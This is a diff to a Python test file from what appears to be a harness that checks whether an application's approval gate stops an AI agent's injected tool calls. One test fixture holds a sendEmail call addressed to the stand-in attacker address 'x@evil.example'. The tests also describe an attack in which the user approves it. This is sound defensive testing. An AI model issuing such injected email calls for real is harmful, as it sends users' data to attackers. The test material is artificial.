@@ -85,7 +85,7 @@ def test_a_call_waiting_for_the_user_s_approval_is_the_gate_holding_it(chat):
     assert not settings.sent
     assert mail["outcome"] == "blocked-by-application" and held(mail, "APP-TOOL-02") is True
     gate = next(x for x in mail["chain"] if x["control"] == "APP-TOOL-02")
-    assert "tool-approval-request" in gate["evidence"] and mail["canary"] in gate["evidence"]
+    assert "sendEmail awaiting-approval" in gate["evidence"] and mail["canary"] in gate["evidence"]
 
 
 def test_an_approval_asked_of_the_user_who_typed_the_attack_stops_nothing(chat, tmp_path):
@@ -147,7 +147,6 @@ def test_the_protocols_are_known_by_their_header_or_by_every_part_s_shape():
     held_call = _aisdk.read(AI6, {})
     assert held_call is not None and held_call.text == ""
     assert held_call.calls == [{"name": "sendEmail", "arguments": {"to": "x@evil.example"}, "status": "awaiting-approval"}]
-    assert held_call.fired[0]["control"] == "APP-TOOL-02"
     text = _aisdk.read(AI4, {})
     assert text is not None and text.text == "Here is what I found: Hello there" and text.calls == []
     # Other answers are not taken for them: plain text, OpenAI's and Anthropic's own streams.
